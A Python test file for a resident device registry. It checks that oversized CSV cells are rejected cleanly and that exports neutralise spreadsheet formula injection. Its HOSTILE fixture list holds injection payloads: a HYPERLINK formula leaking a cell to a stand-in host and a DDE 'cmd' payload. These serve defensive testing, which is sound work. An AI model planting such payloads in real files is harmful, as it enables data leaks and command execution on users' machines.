"""Registry files at their limits: oversized cells are rejected lines, not tracebacks, and an
export is safe to open in a spreadsheet yet imports back to the same registry."""

from __future__ import annotations

import csv
import io
import logging
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest

from lovekey.cli import main
from lovekey.devices import apply_registry, export_registry, parse_registry
from lovekey.errors import ImportRejected
from tests.conftest import DatabaseFactory

HEADER = (
    "device_id,gateway_id,resident_id,kind,resident_name,address,contact1_role,contact1_name,contact1_phone"
)


def _file(*, name: str = "王秀英", address: str = "幸福里3-2-101", contact: str = "王小明") -> str:
    return f"{HEADER}\nWM-1,GW-1,R-1,water_meter,{name},{address},family,{contact},13800000002\n"


def _rejected(text: str) -> dict[int, str]:
    with pytest.raises(ImportRejected) as caught:
        parse_registry(text, name="big.csv")
    return dict(caught.value.problems)


@pytest.mark.parametrize("length", [131_072, 131_073])  # at and past csv's default field limit
def test_a_131072_character_cell_is_a_rejected_line_not_a_traceback(length: int) -> None:
    reasons = _rejected(_file(name="x" * length))
    assert reasons == {2: f"resident_name: too long ({length} characters, at most 100)"}


def test_a_cell_beyond_the_parser_limit_is_a_rejected_line() -> None:
    reasons = _rejected(f"{_file()}WM-2,GW-1,R-2,water_meter,{'y' * 2_000_000},,,,\n")
    assert list(reasons) == [3]
    assert "too long" in reasons[3]
    assert "yyyy" not in reasons[3]  # the cell is not echoed


@pytest.mark.parametrize(
    ("cells", "column", "cap"),
    [
        ({"name": "名" * 101}, "resident_name", 100),
        ({"address": "a" * 201}, "address", 200),
        ({"contact": "c" * 101}, "contact1_name", 100),
    ],
)
def test_names_and_addresses_have_a_length_cap(cells: dict[str, str], column: str, cap: int) -> None:
    reasons = _rejected(_file(**cells))
    assert reasons == {2: f"{column}: too long ({cap + 1} characters, at most {cap})"}
    # one character less is fine
    fits = {key: value[:-1] for key, value in cells.items()}
    parse_registry(_file(**fits))


def test_the_cli_reports_an_oversized_cell(
    postgres_factory: DatabaseFactory,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("LOVEKEY_DATABASE_URL", postgres_factory.create("registry_limits_cli"))
    monkeypatch.setenv("LOVEKEY_DATA_DIR", str(tmp_path / "data"))
    path = tmp_path / "big.csv"
    path.write_text(_file(address="x" * 131_073), encoding="utf-8")
    root = logging.getLogger()
    saved = root.handlers[:], root.level
    try:
        assert main(["devices", "import", str(path)]) == 1
    finally:
        root.handlers[:], level = saved  # main() configured logging on capsys' stream
        root.setLevel(level)
    err = capsys.readouterr().err
    assert "line 2: address: too long (131073 characters, at most 200)" in err
    assert "Traceback" not in err


# -- export: spreadsheet formula injection ------------------------------------------------------


@pytest.fixture
def conn(postgres_factory: DatabaseFactory) -> Iterator[psycopg.Connection]:
    url = postgres_factory.create("registry_limits")
    with psycopg.connect(url, autocommit=True) as conn:
        yield conn


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "'already quoted",
]


def test_export_escapes_formulas_and_imports_back_unchanged(conn: psycopg.Connection) -> None:
    rows = [f"WM-{i},GW-1,R-{i},water_meter,n,a,family,c,1380000000{i}" for i in range(len(HOSTILE))]
    apply_registry(conn, parse_registry(HEADER + "\n" + "\n".join(rows) + "\n"))
    # names typed in the console may start with anything
    for i, text in enumerate(HOSTILE):
        conn.execute("UPDATE resident SET name = %s WHERE id = %s", (text, f"R-{i}"))
        conn.execute("UPDATE household SET address = %s WHERE id = %s", (text, f"R-{i}"))
        conn.execute("UPDATE contact SET name = %s WHERE resident_id = %s", (text, f"R-{i}"))
    stored = conn.execute("SELECT id, name FROM resident ORDER BY id").fetchall()

    exported = export_registry(conn)
    table = list(csv.reader(io.StringIO(exported)))
    for cells in table[1:]:
        for cell in cells:
            if cell[:1] in ("=", "@", "\t", "\r"):
                pytest.fail(f"unescaped formula cell {cell!r}")
            if cell[:1] in ("+", "-"):  # only plain numbers (E.164 phones) may start so
                assert cell[1:].isdigit(), cell
    phones = {row[table[0].index("contact1_phone")] for row in table[1:]}
    assert phones == {f"+861380000000{i}" for i in range(len(HOSTILE))}  # phones stay readable

    report = apply_registry(conn, parse_registry(exported))
    assert not report.changed, report.summary()
    assert conn.execute("SELECT id, name FROM resident ORDER BY id").fetchall() == stored
    addresses = conn.execute("SELECT address FROM household ORDER BY id").fetchall()
    assert sorted(a for (a,) in addresses) == sorted(HOSTILE)
    contacts = conn.execute("SELECT name, phone FROM contact ORDER BY resident_id").fetchall()
    assert sorted(n for n, _ in contacts) == sorted(HOSTILE)
    assert all(phone.startswith("+8613") for _, phone in contacts)
